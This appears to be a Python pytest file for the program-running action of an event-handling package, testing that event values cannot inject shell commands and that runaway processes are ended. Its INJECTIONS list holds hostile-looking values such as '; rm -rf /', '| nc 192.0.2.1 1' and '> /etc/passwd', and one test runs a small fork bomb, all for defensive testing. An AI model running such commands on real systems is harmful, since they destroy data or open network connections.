"""``run``: whatever an event brings stays one argument, and whatever a program does it is ended whole."""

from __future__ import annotations

import asyncio
import errno
import json
import os
import signal
import sys
from pathlib import Path
from typing import Any

import pytest
from acting import NODE, act, counts, firings, idle, numbered, pass_time, rule, run, running
from hypothesis import given, settings
from hypothesis import strategies as st
from sockets import until

import switchcast
from switchcast._native import Event
from switchcast.rules.actions.base import Refused
from switchcast.rules.actions.run import ARGUMENT_BYTES, Run
from switchcast.rules.job import Job
from switchcast.rules.settings import RunSettings

PRINTS_ITS_ARGUMENTS = """
import json, os, sys
json.dump([[os.fsencode(a).decode("latin-1") for a in sys.argv[1:]], json.load(sys.stdin), dict(os.environ)],
          open(sys.argv[1], "w"))
"""
INJECTIONS = [
    "; rm -rf /",
    "$(reboot)",
    "`reboot`",
    "${IFS}",
    "a b\tc",
    "| nc 192.0.2.1 1",
    "&& true",
    "> /etc/passwd",
    "'",
    '"',
    "\\",
    "'; --",
    "*",
    "?",
    "~",
    "!!",
    "#",
    "a\nb",
    "a\r\nb",
    "%0a",
    "%s%n",
    "{h[Event-Name]}",
    "{{}}",
    "\x1b[2J",
    "\u202egnp",
    "λ\U0001f4de",
    "\udcff\udc80",
    "",
    " ",
    "a -rf",
    "+rf",
    "@/etc/passwd",
    "../../etc/passwd",
    "x" * 100_000,
]
"""Values that would be something else to a shell, to a template, to a terminal or to a careless program."""


def python(tmp_path: Path, program: str) -> list[str]:
    """A command that runs ``program``, and no more of Python than it needs."""
    script = tmp_path / "program.py"
    script.write_text(program)
    return [sys.executable, "-IS", str(script)]


@pytest.mark.parametrize("value", INJECTIONS, ids=lambda value: ascii(value[:20]))
def test_a_value_stays_one_argument(tmp_path: Path, value: str) -> None:
    told = tmp_path / "told"
    command = [*python(tmp_path, PRINTS_ITS_ARGUMENTS), str(told), "{h[X]}", "in={h[X]}!", "-{h[X]}"]
    event = numbered(1, {"X": value})

    async def main() -> None:
        acting = rule(run=command)
        async with running(tmp_path, acting) as runner:
            (result,) = await act(runner, acting, event)
        assert result["outcome"] == "done", result

    asyncio.run(main())
    arguments, given_event, _ = json.loads(told.read_text())
    assert [each.encode("latin-1").decode("utf-8", "surrogateescape") for each in arguments[1:]] == [
        value,
        f"in={value}!",
        f"-{value}",
    ]
    assert given_event["X"] == value


def run_action(*command: str, **table: Any) -> Run:
    return Run("test", NODE, RunSettings.model_validate({"command": ["/bin/true", *command], **table}))


def refusal(action: Run, event: Event) -> str:
    with pytest.raises(Refused) as refused:
        asyncio.run(action.act(Job.of("test", "", event)))
    return refused.value.reason


@pytest.mark.parametrize(
    ("template", "headers", "reason"),
    [
        ("{h[X]}", {"X": "-rf"}, "leading_dash"),
        ("{h[X]}{h[Y]}", {"Y": "-rf"}, "leading_dash"),
        ("{h[X]}-{h[Y]}", {"Y": "rf"}, "leading_dash"),
        ("{h[X]}", {"X": "a\0b"}, "nul"),
        ("{h[X]}", {"X": "x" * (ARGUMENT_BYTES + 1)}, "too_long"),
        ("{h[X]}", {"X": "λ" * 65_536}, "too_long"),
    ],
)
def test_a_value_that_no_argument_may_be_is_refused(template: str, headers: dict[str, str], reason: str) -> None:
    assert refusal(run_action(template), numbered(1, headers)) == reason


def test_all_arguments_together_are_bounded() -> None:
    assert refusal(run_action(*["{h[X]}"] * 12), numbered(1, {"X": "x" * 100_000})) == "too_long"


def test_a_body_may_be_an_argument_but_not_with_a_nul() -> None:
    assert refusal(run_action("{body}"), numbered(1, body=b"a\0b")) == "nul"
    assert asyncio.run(run_action("{body}").act(Job.of("test", "", numbered(1, body=b"\xff\n")))).detail == "exit 0"


def test_a_leading_dash_is_let_through_where_the_rule_says_so(tmp_path: Path) -> None:
    told = tmp_path / "told"
    command = [*python(tmp_path, PRINTS_ITS_ARGUMENTS), str(told), "{h[X]}"]
    acting = rule(run={"command": command, "allow_leading_dash": True})

    async def main() -> None:
        async with running(tmp_path, acting) as runner:
            assert (await act(runner, acting, numbered(1, {"X": "-rf"})))[0]["outcome"] == "done"

    asyncio.run(main())
    assert json.loads(told.read_text())[0][1:] == ["-rf"]


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(exclude_categories=[]), max_size=40))
def test_any_text_is_refused_or_is_the_argument(value: str) -> None:
    action = run_action("{h[X]}")
    try:
        event = Event("CUSTOM", {"X": value})
    except (ValueError, UnicodeEncodeError):
        return  # no event can hold it
    try:
        argument = action._argument(action._arguments[0], event)
    except Refused:
        assert value.startswith("-") or "\0" in value
        return
    assert argument == value.encode("utf-8", "surrogateescape")


def test_the_environment_is_clean(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_OF_THE_NODE", "seen")
    told = tmp_path / "told"
    acting = rule(
        run={
            "command": [*python(tmp_path, PRINTS_ITS_ARGUMENTS), str(told)],
            "environment": {"WHO": "{h[X]}", "LANG": "C"},
            "directory": str(tmp_path),
        }
    )

    async def main() -> None:
        async with running(tmp_path, acting) as runner:
            await act(runner, acting, numbered(7, {"X": "$(id)"}))

    asyncio.run(main())
    environment = json.loads(told.read_text())[2]
    assert environment.pop("PATH").startswith("/usr/local/sbin:")
    assert environment.pop("LC_CTYPE", "") in {"", "C.UTF-8"}  # Python's own addition in the C locale
    assert environment == {
        "LANG": "C",
        "WHO": "$(id)",
        "SWITCHCAST_RULE": "test",
        "SWITCHCAST_NODE": NODE,
        "SWITCHCAST_EVENT_ID": "0e7e9e04-5fd1-4b45-9d77-5a8f7f2c1ea3:7:MESSAGE_WAITING/test",
    }


def outcome_of(
    tmp_path: Path, program: str, event: Event | None = None, *, late: int = 0, **table: Any
) -> dict[str, Any]:
    """What is told of a program that was run for one event.

    With ``late`` its time limit passes as soon as that many processes have written their numbers into ``pids``.
    """
    acting = rule(run={"command": python(tmp_path, program), "timeout": "1000s"} | table)
    found: list[dict[str, Any]] = []

    async def main() -> None:
        async with running(tmp_path, acting) as runner:
            await runner.submit(firings(acting, [event or numbered(1)]))
            if late:
                await until(lambda: len(written(tmp_path / "pids")) == late)
                pass_time(1000.0)
            await idle(runner)
            found.extend(runner.log(1))

    run(main())
    return found[0]


def written(pids: Path) -> list[int]:
    """The numbers of processes that are in a file, whole lines only."""
    try:
        return [int(line) for line in pids.read_text().splitlines(keepends=True) if line.endswith("\n")]
    except FileNotFoundError:
        return []


def gone(pid: int) -> bool:
    """Whether no such process is left; one that has ended and that its new parent has not reaped does not count."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] in {"Z", "X"}
    except (FileNotFoundError, ProcessLookupError):
        return True


def all_gone(file: Path) -> None:
    """Wait until the processes that wrote their numbers into ``file`` are gone."""

    async def main() -> None:
        await until(lambda: all(map(gone, written(file))))

    assert written(file)
    asyncio.run(main())


def test_the_exit_code_and_the_output_are_told(tmp_path: Path) -> None:
    result = outcome_of(tmp_path, "import sys; print('\\x1b[2Jout'); sys.stdout.flush(); sys.exit('err')")
    assert (result["outcome"], result["detail"]) == ("failed", "exit 1")
    assert result["output"] == "\\x1b[2Jout\nerr\n"


def test_a_program_that_a_signal_ended_is_told(tmp_path: Path) -> None:
    assert outcome_of(tmp_path, "import os; os.kill(os.getpid(), 9)")["detail"] == "killed by SIGKILL"


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ("/nonexistent/program", "No such file or directory"),
        ("/etc/passwd", "Permission denied"),
    ],
)
def test_a_program_that_cannot_be_run_is_told(tmp_path: Path, command: str, message: str) -> None:
    acting = rule(run=[command])

    async def main() -> None:
        async with running(tmp_path, acting) as runner:
            (result,) = await act(runner, acting, numbered(1))
            assert result["outcome"] == "failed"
            assert message in result["detail"]

    asyncio.run(main())


def test_a_bomb_of_forks_that_hangs_is_ended_whole(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    program = f"""
import os, time
for _ in range(6):
    os.fork()
with open({str(pids)!r}, "a") as file: file.write(f"{{os.getpid()}}\\n")
time.sleep(1000)
"""
    result = outcome_of(tmp_path, program, late=64, kill_after="60s")
    assert result["outcome"] == "failed"
    assert "not over after 1000 s, so its group was ended (killed by SIGTERM)" in result["detail"]
    all_gone(pids)


def test_what_ignores_TERM_is_killed(tmp_path: Path) -> None:  # noqa: N802 - the signal's name
    pids = tmp_path / "pids"
    program = f"""
import os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.fork()
with open({str(pids)!r}, "a") as file: file.write(f"{{os.getpid()}}\\n")
time.sleep(1000)
"""
    result = outcome_of(tmp_path, program, late=2, kill_after="100ms")
    assert "killed by SIGKILL" in result["detail"]
    all_gone(pids)


def test_a_child_that_holds_the_output_is_ended_though_its_parent_is_gone(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    program = f"""
import os, time
child = os.fork()
if child:
    print("the parent's word", flush=True)
    with open({str(pids)!r}, "w") as file: file.write(f"{{child}}\\n")
    os._exit(0)
time.sleep(1000)
"""
    result = outcome_of(tmp_path, program, late=1, kill_after="100ms")
    assert result["outcome"] == "failed"
    assert "its group was ended (exit 0)" in result["detail"]
    assert result["output"] == "the parent's word\n"
    all_gone(pids)


def test_a_child_that_let_go_of_the_output_does_not_outlive_its_parent(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    program = f"""
import os, time
child = os.fork()
if child:
    with open({str(pids)!r}, "w") as file: file.write(f"{{child}}\\n")
    os._exit(0)
os.dup2(os.open("/dev/null", os.O_WRONLY), 1)
os.dup2(1, 2)
time.sleep(1000)
"""
    assert outcome_of(tmp_path, program)["outcome"] == "done"
    all_gone(pids)


def test_one_that_left_the_group_does_not_hold_the_rule_up(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    program = f"""
import os, time
child = os.fork()
if child:
    os._exit(0)
os.setsid()
with open({str(pids)!r}, "w") as file: file.write(f"{{os.getpid()}}\\n")
time.sleep(1000)
"""
    try:
        assert outcome_of(tmp_path, program, late=1, kill_after="100ms")["outcome"] == "failed"
        assert not gone(written(pids)[0])
    finally:
        os.kill(written(pids)[0], signal.SIGKILL)
    all_gone(pids)


def test_a_flood_of_output_is_bounded_and_counted(tmp_path: Path) -> None:
    program = "import sys\nfor _ in range(20): sys.stdout.write('x' * 50_000)"
    result = outcome_of(tmp_path, program, output="1KiB")
    assert result["outcome"] == "done"
    assert result["output"] == "x" * 1024 + f"\n[{1_000_000 - 1024:,} bytes more]"


def test_an_endless_flood_is_ended_in_time(tmp_path: Path) -> None:
    acting = rule(run={"command": ["/usr/bin/yes"], "timeout": "300ms", "output": 100})

    async def main() -> None:
        async with running(tmp_path, acting) as runner:
            (result,) = await act(runner, acting, numbered(1))
            assert result["outcome"] == "failed"
            assert len(result["output"]) < 150

    asyncio.run(main())


@pytest.mark.parametrize("program", ["pass", "import os; os.close(0)", "import sys; sys.stdin.read(1)"])
def test_a_program_need_not_read_its_input(tmp_path: Path, program: str) -> None:
    large = numbered(1, {f"X-{number}": "x" * 1000 for number in range(500)}, b"y" * 1_000_000)
    assert outcome_of(tmp_path, program, large)["outcome"] == "done"


def test_the_whole_event_is_the_input(tmp_path: Path) -> None:
    event = numbered(1, {"X": "\udcff"}, b"text\n")
    program = "import json, sys; event = json.load(sys.stdin); print(ascii(event['X']), ascii(event['_body']))"
    assert outcome_of(tmp_path, program, event)["output"] == "'\\\\udcff' 'text\\\\n'\n".replace("\\\\", "\\")


def test_the_program_leads_its_own_session_and_holds_nothing_of_ours(tmp_path: Path) -> None:
    program = """
import os
assert os.getpid() == os.getpgrp() == os.getsid(0)
print(sorted(map(int, os.listdir("/proc/self/fd")))[:4], os.getcwd())
"""
    with open(tmp_path / "held", "w") as held:
        os.set_inheritable(held.fileno(), True)
        assert outcome_of(tmp_path, program)["output"] == "[0, 1, 2, 3] /\n"  # 3 is the directory itself


def test_a_stop_kills_what_runs(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    program = f"""
import os, time
os.fork()
with open({str(pids)!r}, "a") as file: file.write(f"{{os.getpid()}}\\n")
time.sleep(1000)
"""
    acting = rule(run={"command": python(tmp_path, program), "timeout": "1000s"})

    async def main() -> None:
        async with running(tmp_path, acting) as runner:
            await runner.submit(firings(acting, [numbered(1), numbered(2)]))
            await until(lambda: len(written(pids)) == 2)
            assert await runner.stop() == 2
            assert counts(runner)["unfinished"] == 2

    asyncio.run(main())
    all_gone(pids)


def test_a_kernel_without_pidfd_will_do(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def absent(pid: int) -> int:
        raise OSError(errno.ENOSYS, f"no such call for {pid}")

    monkeypatch.setattr(os, "pidfd_open", absent)
    assert outcome_of(tmp_path, "print('here')")["output"] == "here\n"


def test_it_works_in_our_own_event_loop(tmp_path: Path) -> None:
    acting = rule(run=["/bin/echo", "{h[Event-Sequence]}"], concurrency=3)

    async def main() -> list[str]:
        async with running(tmp_path, acting) as runner:
            return sorted(each["output"] for each in await act(runner, acting, *map(numbered, range(5))))

    assert switchcast.run(main()) == [f"{number}\n" for number in range(5)]


def test_many_programs_leave_no_zombie(tmp_path: Path) -> None:
    acting = rule(run=["/bin/true"], concurrency=8)

    async def main() -> None:
        async with running(tmp_path, acting) as runner:
            await runner.submit(firings(acting, [numbered(number) for number in range(60)]))
            assert (await idle(runner))["done"] == 60

    before = children()
    asyncio.run(main())
    assert children() == before


def children() -> list[str]:
    return Path(f"/proc/self/task/{os.getpid()}/children").read_text().split()
